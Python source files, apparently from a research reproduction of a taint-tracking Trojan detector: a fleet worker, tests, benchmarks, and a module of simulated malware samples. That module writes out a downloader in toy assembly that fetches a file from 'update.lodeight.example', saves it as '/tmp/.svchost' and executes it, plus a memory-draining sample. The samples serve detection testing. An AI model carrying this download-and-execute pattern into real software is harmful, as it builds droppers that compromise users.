        """Runs that errored out or missed their expected classification."""
        return [r for r in self.runs if r.failed or r.ok is False]

    @property
    def cancelled(self) -> List[FleetRunRecord]:
        return [r for r in self.runs if r.cancelled]

    @property
    def retried(self) -> List[FleetRunRecord]:
        return [r for r in self.runs if r.retries]

    @property
    def reports(self) -> List[Optional[Dict[str, object]]]:
        """Per-run report dicts in task order — the bit-identity surface."""
        return [r.report for r in self.runs]

    def to_dict(self) -> Dict[str, object]:
        return {
            "schema_version": FLEET_SCHEMA_VERSION,
            "workers": self.workers,
            "shard_by": self.shard_by,
            "max_retries": self.max_retries,
            "wall_seconds": self.wall_seconds,
            "partial": self.partial,
            "runs": [r.to_dict() for r in self.runs],
            "telemetry": (
                self.telemetry.to_dict()
                if self.telemetry is not None
                else None
            ),
            "summary": {
                "total": len(self.runs),
                "failures": len(self.failures),
                "retried": len(self.retried),
                "cancelled": len(self.cancelled),
            },
            "cache": self.cache_stats,
        }

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent, default=str)

    def summary_line(self) -> str:
        partial = (
            f", PARTIAL ({len(self.cancelled)} cancelled by shutdown)"
            if self.partial else ""
        )
        return (
            f"fleet: {len(self.runs)} runs on {self.workers} worker(s) "
            f"[{self.shard_by}] in {self.wall_seconds:.2f}s — "
            f"{len(self.failures)} failure(s), "
            f"{len(self.retried)} retried{partial}"
        )
