"""Extension workloads for the section 10 future-work features.

* ``vundo`` — a Trojan.Vundo-style memory drainer ("degrade Windows
  performance by decreasing the amount of virtual memory available",
  section 2.1) exercising the memory-abuse rules.
* ``lodeight`` — a Trojan.Lodeight-style downloader ("connects to one of
  two predefined websites and downloads a remote file and executes it")
  exercising the executable-content download rule.
* ``allocator`` — a benign program making modest allocations (control).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.kernel.network import ConversationPeer
from repro.programs.base import Workload

VUNDO_SOURCE = r"""
; allocate far past the abuse threshold, in chunks, like an adware
; component bloating the process
main:
    mov edi, 0
alloc_loop:
    cmp edi, 60
    jge done
    mov ebx, 4096
    call malloc
    add edi, 1
    jmp alloc_loop
done:
    mov eax, 0
    ret
"""

ALLOCATOR_SOURCE = r"""
; a normal program: a handful of small allocations
main:
    mov edi, 0
alloc_loop:
    cmp edi, 4
    jge done
    mov ebx, 256
    call malloc
    add edi, 1
    jmp alloc_loop
done:
    mov eax, 0
    ret
"""

LODEIGHT_SOURCE = r"""
; download an executable from a predefined host, save it to a hardcoded
; path, mark it executable, and run it
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 8080
    push ebx
    call connect_addr
    pop ebx
    push ebx
    mov ecx, buf
    mov edx, 96
    call read
    mov edi, eax            ; downloaded byte count
    pop ebx
    call close
    ; save the payload
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    ; make it runnable and run it
    mov ebx, dropfile
    mov ecx, 0x1ed
    call chmod
    call fork
    cmp eax, 0
    jnz done
    mov ebx, dropfile
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, 1
    call exit
done:
    mov eax, 0
    ret
.data
host:     .asciz "update.lodeight.example"
dropfile: .asciz "/tmp/.svchost"
buf:      .space 96
"""

DOWNLOAD_HOST = "update.lodeight.example"
#: What the "predefined website" serves: an executable image (the
#: kernel's executable marker, like ELF's \x7fELF).
EXECUTABLE_PAYLOAD = b"\x7fEXE-beagle-worm-payload-bytes"


def _lodeight_setup(hth: HTH) -> None:
    hth.network.add_peer(
        DOWNLOAD_HOST,
        8080,
        lambda: ConversationPeer("c2", opening=EXECUTABLE_PAYLOAD),
    )


def extension_workloads() -> List[Workload]:
    return [
        Workload(
            name="vundo",
            program_path="/home/user/vundo",
            source=VUNDO_SOURCE,
            description="Trojan.Vundo-style memory drain (future work 4)",
            expected_verdict=Verdict.MEDIUM,
            expected_rules=("check_memory_abuse", "check_memory_usage"),
        ),
        Workload(
            name="allocator",
            program_path="/bin/allocator",
            source=ALLOCATOR_SOURCE,
            description="benign program with modest allocations",
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="lodeight",
            program_path="/home/user/lodeight",
            source=LODEIGHT_SOURCE,
            description="Trojan.Lodeight-style executable downloader "
                        "(future work 5)",
            setup=_lodeight_setup,
            expected_verdict=Verdict.HIGH,
            expected_rules=(
                "check_executable_download",
                "check_execve",
            ),
        ),
    ]
