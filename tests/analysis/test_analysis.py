"""Analysis-module tests: Secure Binary checker, characterization tables,
instrumentation views."""

from repro.analysis import (
    GRANULARITY_TABLE,
    TABLE1_PROFILES,
    check_secure_binary,
    extract_strings,
    instrumentation_listing,
    render_listing,
    table1_rows,
    table2_rows,
)
from repro.isa import assemble
from repro.programs.libc import libc_image


class TestSecureBinary:
    def test_hardcoded_execve_flagged(self):
        image = assemble(
            "/bin/bad",
            """
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    ret
.data
prog: .asciz "/bin/ls"
""",
        )
        report = check_secure_binary(image)
        assert not report.is_secure
        v = report.violations[0]
        assert v.symbol == "prog"
        assert v.string == "/bin/ls"
        assert v.routine == "execve"
        assert "process name" in str(v)

    def test_user_driven_program_clean(self):
        image = assemble(
            "/bin/good",
            """
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    mov edx, 0
    call execve
    ret
""",
        )
        assert check_secure_binary(image).is_secure

    def test_hardcoded_write_content_flagged(self):
        image = assemble(
            "/bin/writer",
            """
main:
    mov ecx, payload
    mov edx, 5
    mov ebx, 3
    call write
    ret
.data
payload: .asciz "leak!"
""",
        )
        report = check_secure_binary(image)
        assert any(v.usage == "resource content" for v in report.violations)

    def test_reference_far_from_call_not_flagged(self):
        # the data reference flows out of the straight-line region (ret)
        image = assemble(
            "/bin/far",
            """
main:
    mov ebx, s
    ret
helper:
    call open
    ret
.data
s: .asciz "/etc/x"
""",
        )
        assert check_secure_binary(image).is_secure

    def test_extract_strings(self):
        image = assemble(
            "/bin/t",
            'main: ret\n.data\nmsg: .asciz "hi"\nnum: .word 300\n',
        )
        strings = extract_strings(image)
        assert strings == {"msg": "hi"}  # 300 is not printable text

    def test_render_mentions_status(self):
        image = assemble("/bin/t", "main: ret")
        assert "SECURE" in check_secure_binary(image).render()

    def test_libc_itself_reports_violations(self):
        # libc's system() hardcodes /bin/sh: the checker sees it (trust is
        # a *policy* decision, not a static property)
        report = check_secure_binary(libc_image())
        assert any(v.string == "/bin/sh" for v in report.violations)


class TestCharacterization:
    def test_table1_has_nine_exploits(self):
        assert len(TABLE1_PROFILES) == 9
        assert len(table1_rows()) == 9

    def test_all_profiles_have_hardcoded_resources_or_not_flag(self):
        # every profiled exploit runs without user intervention (the
        # defining Trojan property from section 2.2)
        assert all(p.no_user_intervention for p in TABLE1_PROFILES)

    def test_table1_row_marks(self):
        rows = {r[0]: r for r in table1_rows()}
        pwsteal = rows["PWSteal.Tarno.Q"]
        assert pwsteal[1] == "X"  # no user intervention
        assert pwsteal[4] == ""   # does not degrade performance

    def test_table2_combination_count(self):
        rows = table2_rows()
        # USER_INPUT, BINARY, HARDWARE have one row each; FILE and SOCKET
        # have four origin rows each -> 3 + 8
        assert len(rows) == 11

    def test_table2_file_origins(self):
        file_rows = [r for r in table2_rows() if r[0] == "FILE"]
        origins = {r[2] for r in file_rows}
        assert origins == {"USER_INPUT", "FILE", "SOCKET", "BINARY"}


class TestInstrumentation:
    def test_granularity_table_matches_paper(self):
        assert len(GRANULARITY_TABLE) == 10
        levels = {row.level for row in GRANULARITY_TABLE}
        assert levels == {
            "Architectural events", "OS (API) events", "Library (API) events"
        }

    def test_listing_inserts_expected_calls(self):
        image = assemble(
            "/bin/t",
            """
main:
    mov eax, 5
    int 0x80
    ret
""",
        )
        rows = instrumentation_listing(image)
        assert rows[0][1].splitlines() == [
            "Call Collect_BB_Frequency", "Call Track_DataFlow"
        ]
        assert "Call Monitor_SystemCalls" in rows[1][1]
        assert rows[2][1] == ""  # ret gets no analysis call

    def test_render_listing_text(self):
        image = assemble("/bin/t", "main:\n  mov eax, 1\n  int 0x80")
        text = render_listing(image)
        assert "Call Monitor_SystemCalls" in text
        assert "int $0x80" in text
