"""Perf smoke check: the block cache must not be slower than the
interpreter.

Runs the Section 9 workload under the full monitor through both
execution engines and fails (exit 1) if the cached path is slower than
the per-instruction interpreter beyond a small noise margin.  Designed
for CI::

    PYTHONPATH=src python -m benchmarks.perf_smoke

Prints the measured times and the speedup either way.  This is a smoke
test, not a benchmark — the real numbers live in
``benchmarks/results/BENCH_performance.json`` (bench_performance.py).
"""

from __future__ import annotations

import sys
import time

from benchmarks.bench_performance import run_workload

#: Paired runs per engine (interleaved to cancel thermal/load drift).
REPS = 5

#: The cached path must be at least this fraction of interpreter speed.
#: 1.0 would assert "never slower at all", which is noise-prone on shared
#: CI runners; the real speedup target (>=1.25x) is asserted in the full
#: benchmark suite where reps are longer.
NOISE_MARGIN = 1.05


def measure() -> tuple:
    cached = 0.0
    interp = 0.0
    # warm-up: first run pays import + assemble costs for both engines
    run_workload("harrier-full")
    run_workload("harrier-full-interp")
    for _ in range(REPS):
        start = time.perf_counter()
        run_workload("harrier-full")
        cached += time.perf_counter() - start
        start = time.perf_counter()
        run_workload("harrier-full-interp")
        interp += time.perf_counter() - start
    return cached / REPS, interp / REPS


def main() -> int:
    cached, interp = measure()
    speedup = interp / cached if cached else float("inf")
    print(
        f"perf smoke: cached={cached * 1000:.2f} ms "
        f"interp={interp * 1000:.2f} ms "
        f"speedup={speedup:.2f}x"
    )
    if cached > interp * NOISE_MARGIN:
        print(
            "FAIL: block-cache execution is slower than the "
            f"per-instruction interpreter (margin {NOISE_MARGIN}x)",
            file=sys.stderr,
        )
        return 1
    print("ok: block-cache execution is not slower than interpretation")
    return 0


if __name__ == "__main__":
    sys.exit(main())
