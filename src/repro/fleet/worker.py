"""Fleet worker: one process, one warm Session, one shard of tasks.

The worker entrypoint (:func:`worker_main`) is a top-level function so
it survives both ``fork`` and ``spawn`` start methods.  Each worker
builds a single :class:`repro.api.Session` and runs its whole shard
through it, so the translated-block store, tag-set interner, and
assemble memo stay warm across the shard — the same reuse a serial
sweep gets, without sharing any mutable machine state between runs.

Retry policy (:func:`run_task_with_retry`): a run whose result reason is
``watchdog`` (wall-clock stall) or that recorded contained
``MonitorFault``s is scheduling noise, not a property of the workload —
it is retried up to ``max_retries`` times, on a fresh machine each
attempt.  Deterministic outcomes (verdicts, rule firings) are never
retried; a genuinely wedged workload exhausts its retries and surfaces
as a failed record with its retry history intact.

Retry *timing* is deterministic too (:func:`retry_delay`): the delay is
an exponential base with jitter derived from the task's fault seed,
index, and attempt number — not from ``random`` — so a chaos sweep
replays with a bit-identical schedule.  ``max_retry_wall`` caps the
*planned* total of those delays per task; because the plan is
deterministic, where a sweep gives up is reproducible as well.
"""

from __future__ import annotations

import time
import traceback
import zlib
from typing import Callable, List, Optional

from repro.api import Session
from repro.cache.store import VerdictCache
from repro.core.report import RunReport
from repro.fleet.refs import FleetTask

#: Exponential backoff base between retry attempts, seconds.
DEFAULT_BACKOFF = 0.05
#: Cap on the summed planned retry delays per task, seconds.
DEFAULT_MAX_RETRY_WALL = 30.0

RETRY_WATCHDOG = "watchdog"
RETRY_MONITOR_FAULT = "monitor-fault"
RETRY_ERROR = "error"


def retry_delay(
    backoff: float, attempt: int, seed: int = 0, index: int = 0
) -> float:
    """The planned sleep before retrying ``attempt`` (1-based).

    Exponential in the attempt number, with a deterministic jitter
    fraction in [0, 1) hashed from ``(seed, index, attempt)`` — the
    task's fault seed and position, so concurrent retries desynchronize
    without consulting a random source.  Bit-identical across replays.
    """
    if backoff <= 0:
        return 0.0
    frac = zlib.crc32(f"{seed}:{index}:{attempt}".encode()) / 2.0 ** 32
    return backoff * (2.0 ** max(attempt - 1, 0)) * (1.0 + frac)


def retry_reason(report: RunReport) -> Optional[str]:
    """Why this run should be retried, or None if it stands.

    Only transient, machine-level outcomes qualify: a watchdog kill
    (the host stalled, not the guest) or a contained monitor fault.
    """
    if report.result.reason == "watchdog":
        return RETRY_WATCHDOG
    if report.monitor_faults:
        return RETRY_MONITOR_FAULT
    return None


def run_task_with_retry(
    session: Session,
    task: FleetTask,
    worker_id: int = 0,
    max_retries: int = 1,
    backoff: float = DEFAULT_BACKOFF,
    max_retry_wall: float = DEFAULT_MAX_RETRY_WALL,
    sleep: Callable[[float], None] = time.sleep,
    runner: Optional[Callable[..., RunReport]] = None,
) -> dict:
    """Run one task (with retries) and return its wire record.

    ``runner(workload, options, telemetry)`` is injectable so the retry
    path is unit-testable without multiprocessing or a real stall; the
    default runs through the session's warm engine.  Retries stop early
    once the *planned* backoff total would exceed ``max_retry_wall``
    (a deterministic budget — see :func:`retry_delay`).
    """
    started = time.perf_counter()
    retries: List[str] = []
    report: Optional[RunReport] = None
    spans: Optional[List[dict]] = None
    error: Optional[str] = None
    ok: Optional[bool] = None

    workload = None
    try:
        workload = task.ref.resolve()
    except Exception:
        error = traceback.format_exc()

    if runner is None:
        runner = lambda w, o, t: session.run_workload(  # noqa: E731
            w, options=o, telemetry=t
        )

    attempt = 0
    planned_wall = 0.0
    while workload is not None and attempt <= max_retries:
        attempt += 1
        error = None
        # A fresh hub per attempt: telemetry from a retried (discarded)
        # attempt must not leak into the merged fleet registry.
        hub = task.options.make_telemetry()
        try:
            report = runner(workload, task.options, hub)
        except Exception:
            report = None
            error = traceback.format_exc()
            reason = RETRY_ERROR
        else:
            reason = retry_reason(report)
        if reason is None:
            break
        if attempt <= max_retries:
            delay = retry_delay(
                backoff, attempt,
                seed=task.options.fault_seed, index=task.index,
            )
            if planned_wall + delay > max_retry_wall:
                break  # retry budget spent; the last outcome stands
            planned_wall += delay
            retries.append(reason)
            if delay > 0:
                sleep(delay)

    if report is not None and workload is not None:
        ok = workload.classified_correctly(report)
        if task.options.trace and hub is not None and hub.tracer is not None:
            spans = [s.to_dict() for s in hub.tracer.finished()]

    return {
        "kind": "run",
        "index": task.index,
        "name": task.ref.name,
        "worker": worker_id,
        "attempts": max(attempt, 1),
        "retries": retries,
        "ok": ok,
        "report": report.to_dict() if report is not None else None,
        "spans": spans,
        "error": error,
        "elapsed": time.perf_counter() - started,
    }


def worker_main(
    worker_id: int,
    tasks: List[FleetTask],
    queue,
    max_retries: int = 1,
    backoff: float = DEFAULT_BACKOFF,
    stop_event=None,
    max_retry_wall: float = DEFAULT_MAX_RETRY_WALL,
    cache_dir: Optional[str] = None,
) -> None:
    """Process entrypoint: drain a shard, stream records, then a sentinel.

    Records stream as each task finishes (the coordinator shows progress
    and merges incrementally); the final ``worker-done`` message carries
    the worker's warm-engine statistics for the fleet summary.

    With ``cache_dir`` the worker's Session runs against the shared
    on-disk verdict cache.  Sharing is merge-free by construction: keys
    are content addresses, so two workers racing on the same key write
    identical entries, and records stay bit-identical to uncached runs
    whichever worker's write lands.

    ``stop_event`` is the coordinator's drain request (SIGTERM/SIGINT):
    when set, the worker finishes the task it is on, skips the rest of
    its shard, and sends its sentinel — the coordinator synthesizes
    ``cancelled`` records for the skipped tasks and marks the fleet
    report partial.
    """
    session = Session(
        cache=VerdictCache(disk_dir=cache_dir) if cache_dir else None
    )
    for task in tasks:
        if stop_event is not None and stop_event.is_set():
            break
        record = run_task_with_retry(
            session,
            task,
            worker_id=worker_id,
            max_retries=max_retries,
            backoff=backoff,
            max_retry_wall=max_retry_wall,
        )
        queue.put(record)
    queue.put({
        "kind": "worker-done",
        "worker": worker_id,
        "runs": session.runs,
        "engine": session.engine.stats(),
        "cache": (
            session.cache.snapshot() if session.cache is not None else None
        ),
    })
