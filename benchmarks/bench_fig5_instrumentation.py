"""Figure 5 — Harrier instrumentation example: the analysis calls
inserted around an original instruction stream.

The second benchmark closes the loop: the instrumentation points the
listing *claims* (Track_DataFlow / Collect_BB_Frequency /
Monitor_SystemCalls) must correspond to live activity in the telemetry
registry when the same fragment actually runs under the monitor."""

from benchmarks.harness import once, write_result
from repro.analysis.instrumentation import render_listing
from repro.core.hth import HTH
from repro.isa import assemble
from repro.telemetry import Telemetry

# The figure's original code shape: moves, a branch, then a syscall.
FIGURE5_FRAGMENT = """
main:
    mov eax, edi
    jnz after
    mov ebx, 0
after:
    xor edx, edx
    mov ecx, esi
    mov eax, 5
    int 0x80
"""


def bench_fig5_instrumentation(benchmark):
    image = assemble("/bin/fig5", FIGURE5_FRAGMENT)
    text = once(benchmark, lambda: render_listing(image))
    write_result("fig5_instrumentation.txt", text + "\n")
    print("\nFigure 5: Harrier instrumentation example\n" + text)
    assert "Call Track_DataFlow" in text
    assert "Call Collect_BB_Frequency" in text
    assert "Call Monitor_SystemCalls" in text


def bench_fig5_registry_evidence(benchmark):
    """Each rendered instrumentation call shows up in the registry."""
    listing = render_listing(assemble("/bin/fig5", FIGURE5_FRAGMENT))

    def run():
        telemetry = Telemetry.enabled()
        hth = HTH(telemetry=telemetry)
        hth.run(assemble("/bin/fig5", FIGURE5_FRAGMENT))
        return telemetry.metrics

    registry = once(benchmark, run)
    # Track_DataFlow ran per instruction...
    assert registry.total("cpu_instructions_total") > 0
    # ...Collect_BB_Frequency counted the executed blocks...
    assert registry.total("harrier_bb_executions") > 0
    # ...and Monitor_SystemCalls saw the fragment's int 0x80.
    assert registry.total("kernel_syscalls_total") >= 1
    assert "Call Track_DataFlow" in listing
