"""RunOptions: the unified run-configuration object and its legacy shims.

Covers the deprecation contract the API redesign promised: the old
``block_cache=`` / ``taint_fastpath=`` boolean kwargs on ``HTH``,
``Workload.run``/``build_machine`` and ``run_monitored`` keep working —
with a ``DeprecationWarning`` — and behave exactly like the
``options=RunOptions(...)`` replacement.
"""

import pickle

import pytest

from repro.core.hth import HTH, run_monitored
from repro.core.options import (
    DEFAULT_MAX_TICKS,
    RunOptions,
    UNSET,
    fold_legacy_flags,
)
from repro.fleet.refs import WorkloadRef
from repro.isa import assemble

SOURCE = """
main:
    mov eax, 0
    ret
"""


def _image():
    return assemble("/bin/t", SOURCE)


class TestRunOptions:
    def test_defaults(self):
        options = RunOptions()
        assert options.block_cache is True
        assert options.taint_fastpath is True
        assert options.max_ticks == DEFAULT_MAX_TICKS
        assert options.wall_timeout is None
        assert not options.wants_telemetry

    def test_frozen(self):
        with pytest.raises(Exception):
            RunOptions().block_cache = False

    def test_picklable(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        options = RunOptions(
            metrics=True, fault_profile=TRANSPARENT_PROFILE, fault_seed=7
        )
        clone = pickle.loads(pickle.dumps(options))
        assert clone == options

    def test_replaced_and_with_faults(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        base = RunOptions()
        assert base.replaced(block_cache=False).block_cache is False
        assert base.replaced(block_cache=False) != base
        chaotic = base.with_faults(TRANSPARENT_PROFILE, 42)
        assert chaotic.fault_profile is TRANSPARENT_PROFILE
        assert chaotic.fault_seed == 42

    def test_make_telemetry_off_by_default(self):
        assert RunOptions().make_telemetry() is None

    def test_make_telemetry_flags(self):
        hub = RunOptions(metrics=True).make_telemetry()
        assert hub.is_enabled
        assert hub.tracer is None and hub.profiler is None
        hub = RunOptions(trace=True, profile=True).make_telemetry()
        assert hub.tracer is not None and hub.profiler is not None

    def test_make_fault_injector_fresh_per_call(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        options = RunOptions(
            fault_profile=TRANSPARENT_PROFILE, fault_seed=3
        )
        a, b = options.make_fault_injector(), options.make_fault_injector()
        assert a is not None and b is not None
        assert a is not b
        assert RunOptions().make_fault_injector() is None


class TestFoldLegacyFlags:
    def test_no_flags_no_warning(self, recwarn):
        options = fold_legacy_flags("X", None)
        assert options == RunOptions()
        assert not [
            w for w in recwarn.list
            if issubclass(w.category, DeprecationWarning)
        ]

    def test_flag_warns_and_folds(self):
        with pytest.warns(DeprecationWarning, match="block_cache"):
            options = fold_legacy_flags("X", None, block_cache=False)
        assert options.block_cache is False

    def test_explicit_flag_overrides_options(self):
        with pytest.warns(DeprecationWarning):
            options = fold_legacy_flags(
                "X", RunOptions(taint_fastpath=True), taint_fastpath=False
            )
        assert options.taint_fastpath is False

    def test_unset_sentinel_is_not_false(self, recwarn):
        options = fold_legacy_flags(
            "X", RunOptions(block_cache=False),
            block_cache=UNSET, taint_fastpath=UNSET,
        )
        assert options.block_cache is False  # options value preserved
        assert not [
            w for w in recwarn.list
            if issubclass(w.category, DeprecationWarning)
        ]


class TestLegacyShims:
    def test_hth_legacy_kwarg_warns(self):
        with pytest.warns(DeprecationWarning, match="HTH"):
            hth = HTH(block_cache=False)
        assert hth.options.block_cache is False

    def test_hth_options_equivalent_to_legacy(self):
        with pytest.warns(DeprecationWarning):
            legacy = HTH(taint_fastpath=False).run(_image())
        modern = HTH(options=RunOptions(taint_fastpath=False)).run(_image())
        assert legacy.to_dict() == modern.to_dict()

    def test_workload_run_legacy_kwarg_warns(self):
        workload = WorkloadRef.from_registry("8", "ElmExploit").resolve()
        with pytest.warns(DeprecationWarning, match="Workload.run"):
            legacy = workload.run(block_cache=False)
        modern = workload.run(options=RunOptions(block_cache=False))
        assert legacy.to_dict() == modern.to_dict()

    def test_build_machine_legacy_kwarg_warns(self):
        workload = WorkloadRef.from_registry("8", "ElmExploit").resolve()
        with pytest.warns(DeprecationWarning, match="build_machine"):
            hth = workload.build_machine(taint_fastpath=False)
        assert hth.options.taint_fastpath is False

    def test_run_monitored_legacy_kwarg_warns(self):
        with pytest.warns(DeprecationWarning):
            verdict_legacy = run_monitored(_image(), block_cache=False)
        verdict_modern = run_monitored(
            _image(), options=RunOptions(block_cache=False)
        )
        assert verdict_legacy.to_dict() == verdict_modern.to_dict()

    def test_hth_run_budgets_default_from_options(self):
        spin = assemble("/bin/spin", "main:\nloop:\n    jmp loop\n")
        report = HTH(options=RunOptions(max_ticks=10)).run(spin)
        assert report.result.reason == "max-ticks"
        assert report.result.ticks <= 10
