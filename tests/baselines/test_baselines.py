"""Baseline tests: stide detector mechanics and the single-taint-bit
ablation (the paper's section 5.1 argument)."""

import pytest

from repro.baselines import (
    StideDetector,
    evaluate_single_bit,
    evaluate_stide,
    is_tainted,
    record_trace,
)
from repro.core.report import Verdict
from repro.programs.micro.execflow import table4_workloads
from repro.programs.micro.infoflow import table6_workloads
from repro.programs.trusted.registry import table7_workloads
from repro.taint import DataSource, TagSet


class TestStideDetector:
    def test_trained_trace_scores_zero(self):
        detector = StideDetector(window=3)
        trace = ["open", "read", "write", "close"]
        detector.train(trace)
        assert detector.score(trace) == 0.0
        assert not detector.is_anomalous(trace)

    def test_novel_trace_scores_high(self):
        detector = StideDetector(window=3)
        detector.train(["open", "read", "close"])
        score = detector.score(["fork", "fork", "fork", "execve"])
        assert score == 1.0
        assert detector.is_anomalous(["fork", "fork", "fork", "execve"])

    def test_partial_overlap_partial_score(self):
        detector = StideDetector(window=2)
        detector.train(["a", "b", "c"])
        # windows: (a,b) seen, (b,x) unseen
        assert detector.score(["a", "b", "x"]) == 0.5

    def test_short_trace_uses_whole_trace(self):
        detector = StideDetector(window=10)
        detector.train(["a", "b"])
        assert detector.score(["a", "b"]) == 0.0
        assert detector.score(["c"]) == 1.0

    def test_empty_trace_scores_zero(self):
        assert StideDetector().score([]) == 0.0

    def test_database_size_grows(self):
        detector = StideDetector(window=2)
        detector.train(["a", "b", "c"])
        assert detector.database_size == 2


class TestTraceRecorder:
    def test_trace_for_trusted_tool(self):
        ls = table7_workloads()[0]
        trace = record_trace(ls)
        assert trace[0] == "SYS_open"
        assert "SYS_exit" in trace

    def test_stide_on_workloads(self):
        # train on ls+column; a fork bomb's trace should look anomalous
        from repro.programs.micro.resource import table5_workloads

        trusted = table7_workloads()[:2]
        tree_forker = table5_workloads()[1]
        results = evaluate_stide(
            trusted,
            [(trusted[0], False), (tree_forker, True)],
            window=4,
        )
        by_name = {r.name: r for r in results}
        assert not by_name["ls"].flagged
        assert by_name["tree forker"].flagged
        assert by_name["tree forker"].score > by_name["ls"].score


class TestSingleBit:
    def test_is_tainted(self):
        assert is_tainted(TagSet.of(DataSource.USER_INPUT))
        assert is_tainted(TagSet.of(DataSource.FILE, "/f"))
        assert not is_tainted(TagSet.of(DataSource.BINARY, "/app"))
        assert not is_tainted(TagSet.empty())

    def test_single_bit_inverts_hth_on_hardcoded_execve(self):
        """The paper's core claim: one bit cannot recognize hardcoded
        identifiers.  The Trojan-style hardcoded execve is invisible to
        the single bit, while the benign user-named execve gets flagged."""
        workloads = {w.name: w for w in table4_workloads()}
        results = {
            r.name: r
            for r in evaluate_single_bit(
                [workloads["User input"], workloads["Hardcode"]]
            )
        }
        assert results["Hardcode"].flagged is False      # missed Trojan
        assert results["User input"].flagged is True     # false positive
        assert all(not r.correct for r in results.values())
        assert all(r.hth_correct for r in results.values())

    def test_hth_beats_single_bit_on_table6(self):
        from repro.baselines import accuracy, hth_accuracy

        results = evaluate_single_bit(table6_workloads()[:8])
        assert hth_accuracy(results) == 1.0
        assert accuracy(results) < hth_accuracy(results)
