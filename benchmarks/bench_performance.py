"""Section 9 — performance evaluation.

The paper reports that Harrier's "main performance bottleneck is caused
by tracking the data flow" (per-instruction shadow updates).  We measure
the same *shape* on a fixed compute+I/O workload under four monitor
configurations:

* native            — no monitor at all (NullHooks)
* harrier-no-df     — monitoring with dataflow tracking off (the mw2.2.1
                      configuration)
* harrier-no-bb     — dataflow on, BB-frequency counting off
* harrier-full      — the complete monitor
* *-interp variants — the same configuration with the block translation
                      cache disabled (per-instruction interpretation),
                      the PIN-without-code-cache counterfactual
* harrier-fastpath(-off) — the full monitor with the zero-taint dataflow
                      fast path explicitly on/off (fastpath == the
                      default harrier-full; -off replays every taint
                      template per transfer)
* warm-cache        — repeat traffic answered by the content-addressed
                      verdict cache: no execution at all, the stored
                      report replayed bit-identically

Absolute times are meaningless across substrates; the assertions are the
shapes: full > no-df >= native (dataflow dominates the overhead, section
9) and cached execution is not slower than interpretation (the code
cache pays for itself).  The summary benchmark also writes
``benchmarks/results/BENCH_performance.json`` with the raw numbers.
"""

import json

import pytest

from benchmarks.harness import render_table, write_result
from repro.api import Session, VerdictCache
from repro.api import run as api_run
from repro.core.hth import HTH
from repro.core.options import RunOptions
from repro.harrier.config import HarrierConfig
from repro.isa import assemble
from repro.telemetry import (
    STAGE_ANALYSIS,
    STAGE_BBFREQ,
    STAGE_DATAFLOW,
    STAGE_NATIVE,
    Telemetry,
)

#: A busy workload: string shuffling, arithmetic, file writes.
WORKLOAD_SOURCE = """
main:
    mov edi, 0
outer:
    cmp edi, 20
    jge io_phase
    mov ebx, buf
    mov ecx, text
    call strcpy
    mov ebx, buf
    call strlen
    add edi, 1
    jmp outer
io_phase:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov edi, 0
write_loop:
    cmp edi, 10
    jge done
    mov ebx, esi
    mov ecx, text
    call fputs
    add edi, 1
    jmp write_loop
done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
path: .asciz "/tmp/out"
text: .asciz "the quick brown fox jumps over the lazy dog"
buf:  .space 64
"""

#: name -> (harrier config or None for unmonitored, use the block cache?,
#: use the zero-taint dataflow fast path?)
_CONFIGS = {
    "native": (None, True, True),
    "native-interp": (None, False, True),
    "harrier-no-dataflow": (
        HarrierConfig(track_dataflow=False), True, True
    ),
    "harrier-no-bbfreq": (
        HarrierConfig(track_bb_frequency=False), True, True
    ),
    "harrier-full": (HarrierConfig(), True, True),
    "harrier-full-interp": (HarrierConfig(), False, True),
    "harrier-fastpath": (HarrierConfig(), True, True),
    "harrier-fastpath-off": (HarrierConfig(), True, False),
    "harrier-provenance-off": (
        HarrierConfig(provenance=False), True, True
    ),
}


def run_workload(config_name, telemetry=None):
    config, block_cache, taint_fastpath = _CONFIGS[config_name]
    options = RunOptions(
        harrier_config=config,
        block_cache=block_cache,
        taint_fastpath=taint_fastpath,
    )
    if config is None:
        # Unmonitored native baseline: repro.api always monitors, so the
        # raw HTH constructor stays the entry point here.
        hth = HTH(monitored=False, telemetry=telemetry, options=options)
        report = hth.run(assemble("/bin/perf", WORKLOAD_SOURCE))
    else:
        # One-shot through the facade: a throwaway Session per call, so
        # every measured run still pays (and measures) cold translation.
        report = api_run(
            WORKLOAD_SOURCE,
            options=options,
            telemetry=telemetry,
            path="/bin/perf",
        )
    assert report.exit_code == 0
    return report


@pytest.mark.benchmark(group="monitor-overhead")
@pytest.mark.parametrize("config_name", list(_CONFIGS))
def bench_monitor_overhead(benchmark, config_name):
    benchmark(run_workload, config_name)


def bench_overhead_summary(benchmark):
    """Single-shot timing comparison + the section 9 shape assertion."""
    import time

    def measure():
        timings = {}
        for name in _CONFIGS:
            start = time.perf_counter()
            for _ in range(3):
                run_workload(name)
            timings[name] = (time.perf_counter() - start) / 3
        # Warm verdict-cache hits: one Session, one populating miss,
        # then timed repeats answered without executing anything.
        session = Session(cache=VerdictCache())
        session.run(WORKLOAD_SOURCE, path="/bin/perf")
        start = time.perf_counter()
        for _ in range(3):
            session.run(WORKLOAD_SOURCE, path="/bin/perf")
        timings["warm-cache"] = (time.perf_counter() - start) / 3
        assert session.cache.stats.hits == 3
        return timings

    timings = benchmark.pedantic(measure, rounds=1, iterations=1)
    # Registry-sourced per-config work counts: a separate metrics-enabled
    # pass so the instrumented run never perturbs the timed one.
    instructions = {}
    hit_rates = {}
    for name in _CONFIGS:
        telemetry = Telemetry.enabled()
        run_workload(name, telemetry=telemetry)
        registry = telemetry.metrics
        instructions[name] = registry.total("cpu_instructions_total")
        hits = registry.total("blockcache_hits_total")
